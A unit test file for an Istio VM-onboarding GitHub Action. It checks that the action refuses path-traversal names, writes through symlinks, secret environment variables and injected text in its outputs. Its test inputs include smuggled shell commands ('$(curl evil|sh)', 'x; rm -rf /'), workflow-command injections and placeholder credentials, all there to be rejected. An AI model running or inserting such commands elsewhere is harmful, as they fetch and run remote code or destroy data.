// Issue #17, classes 1, 2 and 5: a manifest's names never become paths (the action names its
// files, in a directory it made, and writes none through a link); ${VAR} reads vars and the
// environment variables the workflow names, and refuses a secret; outputs hold only values of
// a known shape.
import assert from 'node:assert/strict';
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { cliFlags, parseCliArgs } from '../../src/cli-args.js';
import { loadContract } from '../../src/config/contract.js';
import { InputError } from '../../src/config/errors.js';
import { getSettings } from '../../src/config/settings-from-inputs.js';
import { ManifestError, parseManifest, renderManifests } from '../../src/plan/templates.js';
import { runPipeline } from '../../src/pipeline/run.js';
import { addSecret } from '../../src/redact.js';
import { outputsOf } from '../../src/report/outputs.js';
import type { RunResult } from '../../src/report/result.js';
import { createRunDir, writeNewFile } from '../../src/report/write.js';
import { fakeWorld, memoryLogger } from '../support/fakes.js';

const root = mkdtempSync(join(tmpdir(), 'ivo-unit-i17-'));
after(() => rmSync(root, { recursive: true, force: true }));
const contract = loadContract();
const defaults = Object.fromEntries(contract.inputs.map((i) => [i.name, i.default.startsWith('${{') ? '' : i.default]));
const settings = (inputs: Record<string, string>, env: NodeJS.ProcessEnv = {}) => getSettings((n) => inputs[n] ?? defaults[n] ?? '', env);
const problemsOf = (fn: () => unknown): string[] => {
  try {
    fn();
  } catch (err) {
    if (err instanceof InputError) return err.problems.map((p) => `${p.input}: ${p.message}`);
    throw err;
  }
  return [];
};

/** Everything under dir, symlinks not followed: what a run left. */
function tree(dir: string): string[] {
  const out: string[] = [];
  const walk = (d: string, rel: string) => {
    for (const name of readdirSync(d).sort()) {
      const st = lstatSync(join(d, name));
      out.push(`${rel}${name}${st.isDirectory() ? '/' : st.isSymbolicLink() ? '@' : ''}`);
      if (st.isDirectory()) walk(join(d, name), `${rel}${name}/`);
    }
  };
  walk(dir, '');
  return out;
}

const we = (name: string, extra = '') =>
  `apiVersion: networking.istio.io/v1\nkind: WorkloadEntry\nmetadata:\n  name: ${name}\n  namespace: demo\nspec:\n  address: 10.0.0.5\n  serviceAccount: backend\n${extra}`;

describe("class 1: a manifest's names are checked before anything uses them", () => {
  const refused = (text: string, field: RegExp, line: number) =>
    assert.throws(
      () => parseManifest(text, 'vm.yaml'),
      (err: unknown) => err instanceof ManifestError && err.file === 'vm.yaml' && err.line === line && field.test(err.reason),
      text,
    );

  it("refuses ../, a slash in any spelling, and names that are no strings, at the field's line", () => {
    for (const name of [
      '../../dist/index',
      '"..%2f..%2fdist"',
      '"%2e%2e/x"',
      '"a\u2215b"',
      '"a\uff0fb"',
      '"a\u2044b"',
      '".."',
      '"a/b"',
      '"a\\\\b"',
      '"x\\n::save-state name=a::b"',
      'Web',
    ]) {
      refused(we(name), /^metadata\.name .*must be a DNS-1123 subdomain/, 4);
    }
    refused(we('[a, b]'), /^metadata\.name must be a string$/, 4);
    refused(we('{x: 1}'), /^metadata\.name must be a string$/, 4);
    refused(we('backend').replace('namespace: demo', 'namespace: ../etc'), /^metadata\.namespace "\.\.\/etc" must be a DNS-1123 label/, 5);
    refused(
      we('backend').replace('serviceAccount: backend', 'serviceAccount: "../../x"'),
      /^spec\.serviceAccount .*must be a DNS-1123 subdomain/,
      8,
    );
    const group =
      'apiVersion: networking.istio.io/v1\nkind: WorkloadGroup\nmetadata:\n  name: g\n  namespace: demo\nspec:\n  template:\n    serviceAccount: "a/b"\n';
    refused(group, /^spec\.template\.serviceAccount "a\/b"/, 8);
  });

  it('checks the name a YAML alias resolves to', () => {
    const text = 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: &n "../x"\ndata:\n  a: *n\n';
    assert.throws(
      () => parseManifest(text, 'alias.yaml'),
      (err: unknown) => err instanceof ManifestError && /metadata\.name "\.\.\/x"/.test(err.reason),
    );
  });

  it("keeps valid names and other kinds' fields as they are", () => {
    const [r] = parseManifest(we('backend-vm.v1', 'labels:\n  app: x\n'), 'vm.yaml');
    assert.equal(r?.object.metadata.name, 'backend-vm.v1');
  });

  it('writes a new file under a name of its own, never over an existing one or through a symlink', () => {
    const dir = mkdtempSync(join(root, 'write-'));
    const victim = join(root, 'victim.js');
    writeFileSync(victim, 'original');
    symlinkSync(victim, join(dir, 'manifests-1.yaml'));
    writeFileSync(join(dir, 'manifests-2.yaml'), 'earlier');
    const path = writeNewFile(dir, 'manifests', 'yaml', 'new');
    assert.equal(path, join(dir, 'manifests-3.yaml'));
    assert.equal(readFileSync(victim, 'utf8'), 'original', 'the symlink was not written through');
    assert.equal(readFileSync(join(dir, 'manifests-2.yaml'), 'utf8'), 'earlier', 'an existing file was not overwritten');
    assert.equal(readFileSync(path, 'utf8'), 'new');
  });

  it('makes a fresh run directory, and refuses a parent that is a symlink', () => {
    const parent = join(root, 'runner-temp', 'istio-vm-onboard');
    const a = createRunDir(parent);
    const b = createRunDir(parent);
    assert.notEqual(a, b);
    assert.deepEqual(readdirSync(a), []);
    const elsewhere = mkdtempSync(join(root, 'elsewhere-'));
    const planted = join(root, 'planted');
    symlinkSync(elsewhere, planted);
    assert.throws(() => createRunDir(planted), /is a symlink or not a directory/);
    assert.deepEqual(readdirSync(elsewhere), [], 'nothing made through the link');
  });

  it('render: a WorkloadEntry named ../../x, with a symlink waiting in the work directory, writes nothing and fails at the file and line', async () => {
    const ws = mkdtempSync(join(root, 'ws-'));
    const work = mkdtempSync(join(root, 'work-'));
    const outside = mkdtempSync(join(root, 'outside-'));
    mkdirSync(join(ws, 'dist'));
    writeFileSync(join(ws, 'dist', 'index.js'), 'original');
    // What the old file name would have been: <namespace>-<name>.manifests.yaml, climbing into dist/.
    symlinkSync(join(ws, 'dist'), join(work, 'demo-..'));
    writeFileSync(join(ws, 'vm.yaml'), we('"../../../dist/index"'));
    const before = [tree(ws), tree(work), tree(outside)];
    const log = memoryLogger();
    const s = settings({ mode: 'render', manifests: 'vm.yaml' });
    const r = await runPipeline(s, {
      log,
      signal: new AbortController().signal,
      env: {},
      workDir: work,
      cwd: ws,
      connect: fakeWorld().connect,
    });
    assert.equal(r.verdict, 'failed');
    assert.equal(r.error?.step, 'Render manifests');
    assert.match(r.error?.message ?? '', /vm\.yaml:4: metadata\.name "\.\.\/\.\.\/\.\.\/dist\/index" must be a DNS-1123 subdomain/);
    assert.ok(
      log.lines.some((l) => /^error: metadata\.name/.test(l)),
      log.lines.join('\n'),
    );
    assert.deepEqual([tree(ws), tree(work), tree(outside)], before, 'nothing written anywhere');
    assert.equal(readFileSync(join(ws, 'dist', 'index.js'), 'utf8'), 'original');
    assert.equal(r.manifestsPath, undefined);
    assert.equal(r.workload.name, '', 'the refused name is not in the result');
  });

  it("render: the manifests file gets the action's name in the work directory", async () => {
    const ws = mkdtempSync(join(root, 'ws-'));
    const work = mkdtempSync(join(root, 'work-'));
    writeFileSync(join(ws, 'vm.yaml'), we('backend'));
    const r = await runPipeline(settings({ mode: 'render', manifests: 'vm.yaml' }), {
      log: memoryLogger(),
      signal: new AbortController().signal,
      env: {},
      workDir: work,
      cwd: ws,
      connect: fakeWorld().connect,
    });
    assert.equal(r.verdict, 'succeeded', JSON.stringify(r.error));
    assert.equal(r.manifestsPath, join(work, 'manifests-1.yaml'));
    assert.ok(existsSync(r.manifestsPath));
  });
});

describe('class 2: ${VAR} reads vars and vars-from-env, nothing else, and no secret', () => {
  const ws = mkdtempSync(join(root, 'vars-'));
  const cm = (value: string) => `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: web\ndata:\n  a: "${value}"\n`;
  const env = {
    GH_TOKEN: 'ghs_0123456789abcdef0123',
    AWS_SECRET_ACCESS_KEY: 'wJalrXUtnFEMI/K7MDENG',
    IMAGE_TAG: '1.24.2',
    REGION: 'eu-west-1',
    INPUT_KUBECONFIG: 'kc',
    GITHUB_TOKEN: 'ghs_x',
  };
  const base = { mode: 'render', 'workload-name': 'web', namespace: 'demo', 'vm-address': '10.0.0.5' };

  it('reads the variables vars-from-env names, and only those', () => {
    const s = settings({ ...base, 'vars-from-env': 'IMAGE_TAG, REGION', vars: 'A=1' }, env);
    assert.deepEqual({ ...s.manifests.vars }, { IMAGE_TAG: '1.24.2', REGION: 'eu-west-1', A: '1' });
    writeFileSync(join(ws, 'ok.yaml'), cm('${IMAGE_TAG}-${REGION}'));
    assert.equal(
      (renderManifests(['ok.yaml'], s.manifests.vars, ws)[0]?.object.data as Record<string, string> | undefined)?.a,
      '1.24.2-eu-west-1',
    );
  });

  it('never falls back to the environment: ${GH_TOKEN}, ${AWS_SECRET_ACCESS_KEY} exported by an earlier step are unknown', () => {
    const s = settings({ ...base, 'vars-from-env': 'IMAGE_TAG' }, env);
    for (const name of ['GH_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'HOME']) {
      writeFileSync(join(ws, 'leak.yaml'), cm(`\${${name}}`));
      assert.throws(
        () => renderManifests(['leak.yaml'], s.manifests.vars, ws),
        (err: unknown) =>
          err instanceof ManifestError &&
          err.line === 6 &&
          new RegExp(`variable \\$\\{${name}\\} is not set: add it to \`vars\`, or name an environment variable in \`vars-from-env\``).test(
            err.reason,
          ),
      );
    }
  });

  it("refuses the runner's own variables, an unset one and a name vars sets too, naming vars-from-env", () => {
    const problems = problemsOf(() =>
      settings({ ...base, 'vars-from-env': 'INPUT_KUBECONFIG, GITHUB_TOKEN, runner_temp, NOT_SET, 1X, REGION', vars: 'REGION=x' }, env),
    );
    assert.equal(problems.filter((p) => /^vars-from-env: .* is one of the runner's own variables/.test(p)).length, 3, problems.join('\n'));
    assert.ok(
      problems.some((p) => p === 'vars-from-env: names "NOT_SET", which is not set in the environment'),
      problems.join('\n'),
    );
    assert.ok(
      problems.some((p) => /^vars-from-env: "1X" is not a variable name/.test(p)),
      problems.join('\n'),
    );
    assert.ok(
      problems.some((p) => /^vars: sets "REGION", which vars-from-env reads from the environment too/.test(p)),
      problems.join('\n'),
    );
    assert.ok(!problems.join('\n').includes('kc') && !problems.join('\n').includes('ghs_x'), 'no value shown');
  });

  it('an inventory item cannot choose environment variables', () => {
    const problems = problemsOf(() =>
      settings({ ...base, inventory: '- vm-address: 10.0.0.6\n  workload-name: a\n  vars-from-env: GH_TOKEN\n' }, env),
    );
    assert.ok(
      problems.some((p) => p.startsWith('inventory[0].vars-from-env:')),
      problems.join('\n'),
    );
  });

  it('refuses a value that holds a registered secret, from vars or from the environment, without showing it', () => {
    addSecret(env.AWS_SECRET_ACCESS_KEY);
    const s = settings({ ...base, 'vars-from-env': 'AWS_SECRET_ACCESS_KEY', vars: 'WRAPPED=key=wJalrXUtnFEMI/K7MDENG;' }, env);
    for (const name of ['AWS_SECRET_ACCESS_KEY', 'WRAPPED']) {
      writeFileSync(join(ws, 'secret.yaml'), `# a comment\n${cm(`\${${name}}`)}`);
      assert.throws(
        () => renderManifests(['secret.yaml'], s.manifests.vars, ws),
        (err: unknown) =>
          err instanceof ManifestError &&
          err.line === 7 &&
          err.message === `secret.yaml:7: variable \${${name}} holds a secret (a masked value): secrets never go into manifests`,
      );
    }
  });

  it('the CLI has --vars-from-env, read from action.yml, adding up when repeated', () => {
    const flags = cliFlags(contract);
    assert.equal(flags.find((f) => f.name === 'vars-from-env')?.kind, 'list');
    const parsed = parseCliArgs(['--vars-from-env', 'IMAGE_TAG', '--vars-from-env=REGION'], flags);
    assert.ok(!('error' in parsed));
    assert.deepEqual(parsed.values['vars-from-env'], ['IMAGE_TAG', 'REGION']);
  });
});

describe('class 5: outputs hold only values of a known shape', () => {
  const result = (over: Partial<RunResult> = {}): RunResult => ({
    mode: 'onboard',
    dryRun: false,
    verdict: 'succeeded',
    startedAt: '2026-12-07T21:00:00.000Z',
    workload: { name: 'backend', namespace: 'demo', serviceAccount: 'backend', address: '10.0.0.5', vmHost: '10.0.0.5' },
    steps: [],
    objects: [],
    proxyStatus: 'ready',
    probeStatus: 'passed',
    crossChecks: [],
    probes: [],
    tokenExpiresAt: '2026-12-07T22:00:00Z',
    manifestsPath: '/runner/temp/istio-vm-onboard/run-abc/manifests-1.yaml',
    ...over,
  });

  it('passes valid values on', () => {
    const refused: string[] = [];
    const out = outputsOf(result(), '/runner/temp/istio-vm-onboard/run-abc/report-1.json', (o) => refused.push(o));
    assert.deepEqual(refused, []);
    assert.equal(out['workload-entry'], 'demo/backend');
    assert.equal(out['service-account'], 'demo/backend');
    assert.equal(out['token-expires-at'], '2026-12-07T22:00:00Z');
    assert.equal(out.report, '/runner/temp/istio-vm-onboard/run-abc/report-1.json');
  });

  it('leaves out a newline, shell text or a relative path, and says which output', () => {
    const refused: string[] = [];
    const bad = result({
      workload: {
        name: 'backend\n$(curl evil|sh)',
        namespace: 'demo',
        serviceAccount: 'x; rm -rf /',
        address: '10.0.0.5',
        vmHost: '10.0.0.5',
      },
      autoRegistered: { name: 'ok`id`', group: 'g', healthy: 'True' },
      tokenExpiresAt: '2026-12-07T22:00:00Z\necho pwned',
      manifestsPath: 'manifests-1.yaml',
      proxyStatus: 'ready\nx' as RunResult['proxyStatus'],
    });
    const out = outputsOf(bad, '/tmp/report\n-1.json', (o, why) => refused.push(`${o}: ${why}`));
    for (const name of ['workload-entry', 'service-account', 'token-expires-at', 'manifests', 'report', 'proxy-status'])
      assert.equal(out[name], '', name);
    assert.deepEqual(refused.map((r) => r.split(':')[0]).sort(), [
      'manifests',
      'proxy-status',
      'report',
      'service-account',
      'token-expires-at',
      'workload-entry',
    ]);
    assert.ok(!refused.join('\n').includes('curl') && !refused.join('\n').includes('rm -rf'), 'the refused value is not echoed');
  });

  it('a fleet: failed-vms and the per-VM lines keep the valid VMs, drop the rest', () => {
    const vm = (host: string, name: string): RunResult =>
      result({ verdict: 'failed', workload: { name, namespace: 'demo', serviceAccount: name, address: host, vmHost: host } });
    const top = result({
      vms: [vm('10.0.0.5', 'a'), vm('10.0.0.6\n::set-output name=x::y', 'b'), vm('2001:db8::1', 'c')],
      matrix: JSON.stringify({ include: [{ shard: 0, vms: '10.0.0.5', inventory: '- vm-host: 10.0.0.5\n' }] }),
    });
    const refused: string[] = [];
    const out = outputsOf(top, '/tmp/report-1.json', (o) => refused.push(o));
    assert.equal(out['failed-vms'], '10.0.0.5\n2001:db8::1');
    assert.deepEqual(refused, ['failed-vms']);
    assert.equal(out['workload-entry'], 'demo/a\ndemo/b\ndemo/c');
    assert.doesNotMatch(out.matrix ?? '', /\n/);
  });
});
